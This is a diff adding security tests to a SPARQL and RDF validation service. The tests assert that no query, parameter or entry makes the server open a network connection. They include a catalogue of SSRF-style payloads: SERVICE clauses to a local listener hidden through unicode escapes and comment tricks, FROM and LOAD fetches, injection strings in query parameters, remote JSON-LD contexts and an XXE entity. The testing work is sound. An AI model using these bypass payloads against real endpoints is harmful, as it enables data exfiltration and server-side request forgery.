@@ -150,3 +150,158 @@ def test_oversized_request_body_is_413(live_server):
     status, _, body = post(f"{live_server}/validate", b"#" * 3_000_000, "text/turtle", accept="application/json")
     assert status == 413
     assert get(f"{live_server}/healthz")[0] == 200
+
+
+# -- one reading: no text that the check reads one way and an engine another -----------------
+
+def _service(port: int) -> str:
+    return f"SERVICE SILENT <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?leak }}"
+
+
+# Ways to hide a SERVICE clause (or make it) from one reader and not another.
+HIDINGS = {
+    "plain": lambda s: s,
+    "quote escapes": lambda s: f'BIND("\\u0022" AS ?x) {s} BIND("\\u0022" AS ?y)',
+    "apostrophe escapes": lambda s: f"BIND('\\u0027' AS ?x) {s} BIND('\\u0027' AS ?y)",
+    "long-string escapes": lambda s: f'BIND("\\u0022\\u0022" AS ?x) {s} BIND("\\u0022\\u0022" AS ?y)',
+    "8-digit escapes": lambda s: f'BIND("\\U00000022" AS ?x) {s} BIND("\\U00000022" AS ?y)',
+    "short U escape": lambda s: f'BIND("\\U0022" AS ?x) {s} BIND("\\U0022" AS ?y)',
+    "escape of an escape": lambda s: f'BIND("\\u005Cu0022" AS ?x) {s} BIND("\\u005Cu0022" AS ?y)',
+    "escaped comment": lambda s: f"?a ?b ?c \\u0023 hidden\n {s}",
+    "comment ended by CR": lambda s: f"?a ?b ?c # hidden\r {s}\n",
+    "comment ended by CRLF": lambda s: f"?a ?b ?c # hidden\r\n {s}\n",
+    "escaped keyword": lambda s: s.replace("SERVICE", "\\u0053ERVICE"),
+    "lower case": lambda s: s.replace("SERVICE", "service"),
+    "escaped IRI": lambda s: s.replace("/sparql>", "/\\u0073parql>"),
+    "IRI of a variable": lambda s: "VALUES ?u { <" + s.split("<")[1].split(">")[0] + "> } "
+                                   + s.split(">")[0].split("<")[0].replace("SILENT ", "") + "?u { ?s ?p ?leak }",
+    "IRI from BIND": lambda s: "BIND(IRI(\"" + s.split("<")[1].split(">")[0] + "\") AS ?u) SERVICE ?u { ?s ?p ?leak }",
+    "tab and newline": lambda s: s.replace(" ", "\t\n"),
+    "no spaces": lambda s: s.replace("SILENT ", "SILENT").replace("> {", ">{"),
+    "in a comparison": lambda s: f"FILTER(?a<?b){s.replace('SILENT ', 'SILENT#>' + chr(10))}",
+}
+
+FORMS = {
+    "select": lambda w: f"SELECT * WHERE {{ {w} }}",
+    "ask": lambda w: f"ASK {{ {w} }}",
+    "construct": lambda w: f"CONSTRUCT {{ ?s ?p ?leak }} WHERE {{ {w} }}",
+    "describe": lambda w: f"DESCRIBE ?s WHERE {{ {w} }}",
+    "sub-select": lambda w: f"SELECT * WHERE {{ {{ SELECT * WHERE {{ {w} }} }} }}",
+    "exists": lambda w: f"SELECT * WHERE {{ ?a ?b ?c FILTER EXISTS {{ {w} }} }} LIMIT 1",
+    "optional": lambda w: f"SELECT * WHERE {{ ?a ?b ?c OPTIONAL {{ {w} }} }} LIMIT 1",
+    "minus": lambda w: f"SELECT * WHERE {{ ?a ?b ?c MINUS {{ {w} }} }} LIMIT 1",
+}
+
+
+def _probes(port: int) -> list[tuple[str, str]]:
+    return [(f"{form} / {hiding}", wrap(hide(_service(port))))
+            for form, wrap in FORMS.items() for hiding, hide in HIDINGS.items()]
+
+
+def _sent_every_way(base: str, query: str):
+    yield get(f"{base}/sparql?query={q(query)}")
+    yield post(f"{base}/sparql", urllib.parse.urlencode({"query": query}).encode(), "application/x-www-form-urlencoded")
+    yield post(f"{base}/sparql", query.encode(), "application/sparql-query")
+
+
+def test_no_query_reaches_the_network_however_it_is_written(live_server, listener):
+    """Every form, every hiding trick, every way of sending: zero connections, no leak."""
+    port, hits = listener
+    probes = _probes(port)
+    assert len(probes) >= 140
+    answered = []
+    for name, query in probes:
+        for status, _, body in _sent_every_way(live_server, query):
+            assert status in (200, 400), (name, status, body[:200])
+            if status == 200:
+                answered.append(name)  # read consistently as something harmless
+            assert b"\"leak\":{" not in body, name  # no value of the remote variable
+    time.sleep(0.3)
+    assert hits == []
+    # the plain and the escaped spellings are refused, not run harmlessly
+    assert not [n for n in answered if n.endswith(("/ plain", "/ escaped keyword", "/ lower case"))]
+
+
+def test_the_reading_run_is_the_reading_checked(oxigraph_store, listener):
+    """The engine gets the expanded text: the hidden LIMIT and SERVICE of the issue cannot differ."""
+    from r2pkg.reading import read_query
+
+    port, hits = listener
+    issue = ('SELECT * WHERE { BIND("\\u0022" AS ?x) SERVICE SILENT <http://127.0.0.1:' + str(port)
+             + '/x> { ?s ?p ?leak } BIND("\\u0022" AS ?y) }')
+    reading = read_query(issue)
+    assert "\\u" not in reading.text  # one long string for the check and for Oxigraph alike
+    result = oxigraph_store.query(issue)
+    assert [str(row[0]) for row in result if row[0] is not None][0].startswith(" AS ?x) SERVICE")
+    hidden_limit = read_query("SELECT ?s WHERE { ?s ?p ?o } \\u0023 LIMIT 3")
+    assert hidden_limit.limit is None  # a comment for every reader, so the row cap applies
+    assert len(list(oxigraph_store.query(hidden_limit.capped(5)))) == 6
+    time.sleep(0.3)
+    assert hits == []
+
+
+def test_dataset_clauses_and_parameters_never_fetch(live_server, listener):
+    port, hits = listener
+    url = f"http://127.0.0.1:{port}/g.ttl"
+    queries = [f"SELECT * FROM <{url}> WHERE {{ ?s ?p ?o }}",
+               f"SELECT * FROM NAMED <{url}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
+               f"SELECT * \\u0046ROM <{url}> WHERE {{ ?s ?p ?o }}",
+               f"ASK FROM <{url.replace('g.ttl', chr(92) + 'u0067.ttl')}> {{ ?s ?p ?o }}",
+               f"CONSTRUCT {{ ?s ?p ?o }} FROM <{url}> WHERE {{ ?s ?p ?o }}",
+               f"DESCRIBE <{url}> FROM <{url}>"]
+    for query in queries:
+        for status, _, body in _sent_every_way(live_server, query):
+            assert status == 400 and "FROM" in error_of(body)["message"], (query, body)
+    for param in ("default-graph-uri", "named-graph-uri"):
+        plain = f"{live_server}/sparql?query={q('ASK { ?s ?p ?o }')}&{param}={q(url)}"
+        assert get(plain)[0] == 400
+        form = urllib.parse.urlencode({"query": "ASK { ?s ?p ?o }", param: url}).encode()
+        assert post(f"{live_server}/sparql", form, "application/x-www-form-urlencoded")[0] == 400
+        assert post(f"{live_server}/sparql?{param}={q(url)}", b"ASK { ?s ?p ?o }", "application/sparql-query")[0] == 400
+    for update in (f"LOAD <{url}>", f"LOAD SILENT <{url}> INTO GRAPH <http://x/g>", f"\\u004COAD <{url}>",
+                   f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}"):
+        assert get(f"{live_server}/sparql?query={q(update)}")[0] == 400
+        assert post(f"{live_server}/sparql", update.encode(), "application/sparql-update")[0] == 400
+        assert post(f"{live_server}/sparql", urllib.parse.urlencode({"update": update}).encode(),
+                    "application/x-www-form-urlencoded")[0] == 400
+    time.sleep(0.3)
+    assert hits == []
+
+
+def test_saved_query_parameters_cannot_reach_the_network(live_server, listener):
+    port, hits = listener
+    values = [f'x" . }} {_service(port)} {{ "', f"x\\u0022 }} {_service(port)} {{ #",
+              f"<http://127.0.0.1:{port}/>", f"http://127.0.0.1:{port}/> }} {_service(port)} {{ <x"]
+    for value in values:
+        for accept in ("application/json", "text/html"):
+            status, _, _ = get(f"{live_server}/queries/find-by-label?text={q(value)}", {"Accept": accept})
+            assert status in (200, 400)
+    time.sleep(0.3)
+    assert hits == []
+
+
+def test_entries_never_reach_the_network(live_server, listener):
+    port, hits = listener
+    url = f"http://127.0.0.1:{port}/c.jsonld"
+    entries = [
+        {"@context": url, "@id": "https://w3id.org/r2pkg/id/case/x"},
+        {"@context": [url], "@id": "https://w3id.org/r2pkg/id/case/x"},
+        {"@context": {"@import": url}, "@id": "https://w3id.org/r2pkg/id/case/x"},
+        {"@context": {"p": {"@id": "http://x/p", "@context": url}}, "p": {"@id": "http://x/o"}},
+        {"@graph": [{"@context": url, "@id": "http://x/a"}]},
+        {"@context": "c.jsonld", "@id": "http://x/a"},
+    ]
+    for entry in entries:
+        for ctype in ("application/ld+json", "application/json"):
+            status, _, body = post(f"{live_server}/validate", json.dumps(entry).encode(), ctype, accept="application/json")
+            assert status == 400, (entry, body)
+        form = urllib.parse.urlencode({"entry": json.dumps(entry), "format": "jsonld"}).encode()
+        assert post(f"{live_server}/validate", form, "application/x-www-form-urlencoded", accept="application/json")[0] == 400
+    xml = (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/s">]>'
+           '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>')
+    for ctype in ("application/rdf+xml", "application/xml", "text/xml"):
+        assert post(f"{live_server}/validate", xml.encode(), ctype, accept="application/json")[0] in (400, 415)
+    turtle = f"@base <http://127.0.0.1:{port}/> . <a> <b> <c> ."
+    assert post(f"{live_server}/validate", turtle.encode(), "text/turtle", accept="application/json")[0] in (200, 400)
+    time.sleep(0.3)
+    assert hits == []
